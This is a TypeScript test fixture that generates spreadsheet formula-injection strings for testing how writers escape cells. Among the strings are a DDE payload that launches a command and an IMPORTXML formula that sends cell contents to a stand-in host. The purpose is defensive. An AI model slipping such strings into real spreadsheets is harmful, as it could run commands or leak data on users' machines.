const STARTS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠', "'="]
const COMMANDS = [
  'SUM(1+1)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.invalid","x")',
  'DDE("a";"b";"c")',
  'IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
  '2+5',
  '1',
  '"x"',
  'A1;B1',
  '\n=1+1',
]

/** Texts that a spreadsheet would run if they stood unguarded in a cell; made for tests of the writers. */
export const FORMULA_TEXTS: readonly string[] = STARTS.flatMap((start) =>
  COMMANDS.flatMap((command) => [`${start}${command}`, ` ${start}${command}`]),
)
